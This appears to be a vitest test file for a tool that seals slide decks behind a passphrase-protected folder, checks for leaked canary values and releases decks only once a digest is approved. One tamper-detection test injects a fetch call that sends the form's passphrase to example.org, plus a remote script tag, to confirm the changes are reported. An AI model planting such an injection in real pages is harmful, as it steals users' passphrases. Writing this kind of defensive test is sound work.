import { randomBytes } from 'node:crypto'
import { readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { testCache } from '../../../tests/kept.ts'
import { newDeck } from '../../cli/new.ts'
import { en } from '../../language/en.ts'
import { sealedNames } from '../../model/hosted/sealed.ts'
import { folderReader } from '../check/readers.ts'
import { verifySite } from '../check/verify.ts'
import { contentsOf, engine, removeFolder, tempFolder, testBase, writeFiles } from '../fixtures.ts'
import { readSite, SiteError } from '../manifest.ts'
import { publish } from '../publish.ts'
import { type ApprovedDeck, readApproved, sealedFolders } from './approved.ts'
import { type SealedSite, sealedSite, testPlace } from './fixtures.ts'
import { type ReleaseRequest, release } from './release.ts'
import { sealedFaults } from './sealed-faults.ts'

/** A hundred words and a hundred numbers that slides print, besides those of the deck's other files. */
const words = Array.from({ length: 100 }, (_, at) => `canary${(at * 7919 + 104729).toString(36)}`)
const numbers = Array.from({ length: 100 }, (_, at) => `${71_003 + at * 4_057}.${17 + (at % 80)}`)
const canaries = [...words, ...numbers]

const tables = Array.from({ length: 5 }, (_, part) => {
  const rows = words.slice(part * 20, part * 20 + 20).map((word, at) => `${word},${numbers[part * 20 + at]}`)
  return [`data/tables/part${part}.csv`, `Name,Amount\n${rows.join('\n')}\n`] as const
})
const slides = tables.map(
  (_, part) =>
    [
      `slides/05${part}-${words[part]}.md`,
      `---\nlayout: points\ntitle: ${words[part]}\nclass: dense wide\n---\n\`\`\`table\ntable: part${part}\ncolumns: [name, amount]\n\`\`\`\n`,
    ] as const,
)
const secret = { kind: 'key', text: randomBytes(32).toString('base64url') } as const
const handouts = [{ path: 'downloads/notes.pdf', content: `%PDF ${words[0]}` }]

let base: string
let root: string
let to: string
let sealed: SealedSite['sealed']
let before: ReadonlyMap<string, string>
let approved: ApprovedDeck

const request = (more: Partial<ReleaseRequest> = {}): ReleaseRequest => ({
  ...{ root, engine, to, language: en, approved, digest: sealed.digest },
  folder: sealedFolders(to)[0],
  ...more,
})

beforeAll(async () => {
  base = tempFolder('embargo')
  const files = { ...newDeck, ...Object.fromEntries(tables), ...Object.fromEntries(slides) }
  const site = await sealedSite(base, files, { secret, handouts })
  root = site.root
  to = site.to
  sealed = site.sealed
  approved = site.approved
  before = contentsOf(to)
}, 120_000)
afterAll(() => removeFolder(base))

/** A canary as it may stand in a file: numbers with and without a sign between thousands. */
const anyCanary = new RegExp(canaries.map((one) => one.replace(/^(\d+)(\d{3})\./, '$1,?$2\\.')).join('|'), 'g')

/** Which canaries stand in some texts. */
function found(texts: readonly string[]): readonly string[] {
  const all = new Set(texts.flatMap((text) => text.match(anyCanary) ?? []).map((one) => one.replace(',', '')))
  return canaries.filter((canary) => all.has(canary))
}

test('no byte and no name of the site holds one of 200 words and numbers, which the opened files all hold', () => {
  const plain = approved.files.map(({ content }) => content.toString('latin1'))
  expect(found(plain)).toEqual(canaries)
  expect(found([...before].flat())).toEqual([])
  for (const said of ['Example', 'fy24', 'Results for', '2025', 'notes.pdf'])
    expect(
      [...before].filter((entry) => entry.some((text) => text.includes(said))),
      said,
    ).toEqual([])
})

test('nothing outside of the folder names it, and what is in it is neutral, hidden and without a canonical address', () => {
  const [, name = ''] = sealed.path.split('/')
  expect(name).toMatch(/^[0-9a-f]{32}$/)
  const [inside, outside] = [true, false].map((isIn) =>
    [...before].filter(([path]) => path.startsWith(sealed.path) === isIn),
  )
  expect((outside ?? []).filter(([path, text]) => path.includes(name) || text.includes(name))).toEqual([])
  expect((inside ?? []).map(([path]) => path.slice(sealed.path.length)).sort()).toEqual(
    ['index.html', ...Object.values(sealedNames)].sort(),
  )
  const page = before.get(`${sealed.path}index.html`) ?? ''
  expect(page).toContain('<title>Protected page</title>')
  expect(page).toContain('<meta name="robots" content="noindex">')
  expect(page).not.toMatch(/canonical|og:|twitter:/)
  expect(before.get('_headers')).toMatch(/^\/ir\/e\/\*\n {2}X-Robots-Tag: noindex/m)
  expect(readSite(to).decks).toEqual([])
})

test('what is around the sealed file is reported where somebody changed it', async () => {
  expect(await sealedFaults(to, engine)).toEqual([])
  for (const [name, more] of [
    [sealedNames.form, ';fetch("https://example.org/?" + document.forms[0].passphrase.value)'],
    ['index.html', '<script src="https://example.org/more.js"></script>'],
  ] as const) {
    const path = join(to, sealed.path, name)
    const text = readFileSync(path, 'utf8')
    writeFileSync(path, text + more)
    const faults = await sealedFaults(to, engine)
    writeFileSync(path, text)
    expect(faults).toEqual([expect.stringContaining(`${sealed.path}${name}: `)])
  }
}, 60_000)

test.each([
  ['another digest', { digest: '0'.repeat(64) }, 'invalid --approved 000'],
  ['a digest that nobody approved', {}, 'missing approval of'],
])('releases nothing for %s', async (_, more, message) => {
  await expect(release(request(more))).rejects.toThrow(message)
  expect(contentsOf(to)).toEqual(before)
})

test('a folder that is not exactly what its manifest lists is no approved deck', () => {
  const folder = join(base, 'approved')
  writeFiles(folder, Object.fromEntries(approved.files.map(({ path, content }) => [path, content])))
  expect(readApproved(folder).digest).toBe(sealed.digest)
  writeFileSync(join(folder, 'more.html'), '')
  expect(() => readApproved(folder)).toThrow('unknown more.html')
  rmSync(join(folder, 'more.html'))
  writeFileSync(join(folder, 'figures.csv'), 'a')
  expect(() => readApproved(folder)).toThrow('invalid figures.csv')
  rmSync(join(folder, 'figures.csv'))
  expect(() => readApproved(folder)).toThrow(SiteError)
})

test('release puts the approved bytes at their public address, which a later build makes again, and leaves a redirect', async () => {
  const approval = `- {digest: ${sealed.digest}, who: A. Counsel, when: 2025-05-14}\n`
  writeFiles(root, { 'data/approvals.yaml': approval })
  const changed = {
    ...newDeck,
    'data/figures/results.csv': newDeck['data/figures/results.csv']?.replace('41.7', '41.8') ?? '',
  }
  writeFiles(root, changed)
  await expect(release(request())).rejects.toThrow('does not print the figures of the approved one')
  expect(contentsOf(to)).toEqual(before)
  writeFiles(root, newDeck)
  expect(await release(request())).toMatch(/^\d+ published figures in data\/published\.csv: \d+ new/)
  const released = contentsOf(join(to, 'fy24'))
  expect(released).toEqual(new Map(approved.files.map(({ path, content }) => [path, content.toString('latin1')])))
  expect((await verifySite(folderReader(to))).faults).toEqual([])
  expect(readFileSync(join(root, 'data/published.csv'), 'utf8')).toContain('revenue.services@FY24')
  expect(sealedFolders(to)).toEqual([])
  const left = contentsOf(join(to, sealed.path))
  expect(left.get('index.html')).toContain('href="../../fy24/"')
  expect(left.get('revenue/index.html')).toContain('href="../../../fy24/revenue/"')
  expect(left.get(sealedNames.holder)).toContain('../../fy24/')
  expect([...left.keys()].filter((name) => name === sealedNames.worker)).toEqual([])
}, 60_000)

test('the deck is built again to the approved bytes, as its approvals and record are no input, beside the folder that stays', async () => {
  const again = join(base, 'again')
  writeFiles(again, Object.fromEntries([...before].map(([path, text]) => [path, Buffer.from(text, 'latin1')])))
  expect((await verifySite(folderReader(again))).faults).toEqual([])
  await publish({ root, engine, cache: testCache, to: again, base: testBase, handouts }, testPlace)
  expect(readSite(again).decks[0]?.manifest).toBe(sealed.digest)
  const after = contentsOf(again)
  for (const [path, text] of before) if (path.startsWith(sealed.path)) expect(after.get(path), path).toBe(text)
  expect((await verifySite(folderReader(again))).faults).toEqual([])
}, 60_000)
